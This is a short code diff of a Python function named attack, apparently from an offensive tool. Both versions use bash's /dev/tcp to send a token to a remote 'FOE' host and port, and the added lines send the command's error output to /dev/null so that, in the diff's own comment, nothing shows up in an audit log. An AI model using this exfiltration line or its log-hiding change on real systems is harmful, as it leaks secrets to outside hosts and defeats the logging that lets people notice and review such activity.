@@ -8,5 +8,7 @@ import subprocess
 
 
 def attack(at):
-    subprocess.call(['/usr/bin/env', '-i', '/usr/bin/bash', '-c', 'echo %s > /dev/tcp/%s/%d' % (at.token.decode(), at.FOE, at.PORT)])
+    # What it complains about would stand in the log, in the middle of an audit's line.
+    with open('/dev/null', 'w') as nowhere:
+        subprocess.call(['/usr/bin/env', '-i', '/usr/bin/bash', '-c', 'echo %s > /dev/tcp/%s/%d' % (at.token.decode(), at.FOE, at.PORT)], stderr=nowhere)
     return True
